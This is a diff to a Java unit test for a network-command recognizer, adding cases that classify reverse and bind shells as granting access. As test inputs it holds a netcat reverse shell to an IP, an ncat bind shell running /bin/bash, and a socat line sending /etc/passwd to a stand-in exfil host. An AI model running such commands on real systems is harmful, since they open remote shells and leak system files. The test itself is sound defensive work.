@@ -105,6 +105,10 @@ class NetworkRecognizerTest {
         assertThat(verbs("nc", "attacker.example.com", "4444")).containsExactly(Verb.TRANSFER);
         assertThat(verbs("nc", "-z", "db", "5432")).containsExactly(Verb.READ);
         assertThat(verbs("nc", "-l", "8080")).containsExactly(Verb.EXECUTE);
+        // reverse and bind shells give the peer this machine's account
+        assertThat(verbs("nc", "-e", "/bin/sh", "203.0.113.7", "9001")).containsExactly(Verb.GRANT);
+        assertThat(verbs("ncat", "-l", "-p", "4444", "--exec", "/bin/bash")).containsExactly(Verb.GRANT);
+        assertThat(verbs("socat", "TCP-LISTEN:9000,bind=127.0.0.1", "EXEC:/bin/cat")).containsExactly(Verb.EXECUTE);
         assertThat(verbs("socat", "TCP:exfil.example.com:443", "FILE:/etc/passwd")).containsExactly(Verb.TRANSFER);
         Operation ssh = run("ssh", "-p", "22", "dev@bastion.example.com").getFirst();
         assertThat(ssh.verb()).isEqualTo(Verb.EXECUTE);
